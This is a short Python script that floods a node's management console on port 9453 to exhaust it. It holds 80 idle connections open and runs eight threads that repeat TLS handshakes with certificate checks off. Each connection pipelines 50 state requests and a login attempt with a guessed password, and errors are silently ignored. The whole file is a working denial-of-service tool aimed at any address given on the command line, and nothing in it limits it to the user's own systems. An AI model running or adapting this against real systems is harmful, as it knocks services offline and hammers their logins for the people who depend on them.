"""Floods the console of a node: python3 flood.py ADDRESS SECONDS. Handshakes, requests and idle connections, as fast as it can."""

import concurrent.futures
import socket
import ssl
import sys
import time

PORT, THREADS, IDLE = 9453, 8, 80
REQUESTS = b"GET /api/v1/state HTTP/1.1\r\nHost: a\r\n\r\n" * 50
LOGIN = b'POST /api/v1/login HTTP/1.1\r\nHost: a\r\nContent-Length: 20\r\n\r\n{"password":"guess"}'


def flood(address, end):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    handshakes = answers = 0
    while time.monotonic() < end:
        try:
            with socket.create_connection((address, PORT), 2) as plain, context.wrap_socket(plain) as door:
                handshakes += 1
                door.sendall(REQUESTS + LOGIN)
                while answer := door.recv(65536):
                    answers += answer.count(b"HTTP/1.1 ")
                    if b"X-Content" not in answer or b"login" in answer:
                        break
        except OSError:
            pass  # sent away, or it was just killed
    return handshakes, answers


def main(address, seconds):
    end, idle = time.monotonic() + float(seconds), []
    for _ in range(IDLE):
        try:
            idle.append(socket.create_connection((address, PORT), 2))
        except OSError:
            pass
    with concurrent.futures.ThreadPoolExecutor(THREADS) as pool:
        done = list(pool.map(lambda _: flood(address, end), range(THREADS)))
    print(*map(sum, zip(*done)))


if __name__ == "__main__":
    main(*sys.argv[1:])
